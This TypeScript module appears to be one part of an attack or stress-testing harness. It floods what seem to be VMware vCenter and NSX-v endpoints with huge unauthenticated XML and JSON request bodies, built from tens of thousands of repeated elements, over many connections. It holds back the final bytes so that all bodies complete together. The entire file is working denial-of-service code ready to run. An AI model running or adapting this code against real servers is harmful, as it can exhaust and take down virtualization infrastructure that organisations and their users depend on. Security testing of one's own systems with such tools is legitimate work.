import { setTimeout as pause } from 'node:timers/promises'
import { attempt, type Call, createCaller } from '../calls.ts'
import { type Attack, loops } from '../target.ts'

const elements = `<a>${'<b xmlns:c="urn:x"/>'.repeat(49_900)}</a>`
const members = `{"a":[${'{"b":1},'.repeat(31_000)}0]}`
const credentials = `<a>${'<b><c/></b>'.repeat(18_000)}</a>`

/** What nobody has to be known for, as large as it was taken: XML on vim25, JSON on JSON-RPC, XML for a token of NSX-v's. */
const calls: readonly (Call & { at: 'manager' | 'nsxv' })[] = [
  { at: 'manager', path: '/sdk', headers: { 'content-type': 'text/xml' }, body: elements },
  { at: 'manager', path: '/api', headers: { 'content-type': 'application/json' }, body: members },
  {
    at: 'nsxv',
    path: '/api/2.0/services/auth/token',
    headers: { 'content-type': 'application/xml' },
    body: credentials,
  },
]

/** How long the last bytes of all bodies are kept back, in milliseconds, so that they come together. */
const together = 2000

/** Part 1: large bodies before anybody has signed in, which all end at the same time. */
export const bodies: Attack = async (target, connections, from, outcomes, ended) => {
  const callers = Array.from({ length: connections }, (_, number) => {
    const call = calls[number % calls.length] as (typeof calls)[number]
    return { call, caller: createCaller(target[call.at], from) }
  })
  let wave = pause(together)
  await loops(connections, ended, async (number) => {
    const { call, caller } = callers[number] as (typeof callers)[number]
    const own = wave
    await attempt(outcomes, caller, { method: 'POST', ...call }, own)
    if (own === wave) wave = pause(together)
  })
  for (const { caller } of callers) caller.close()
}
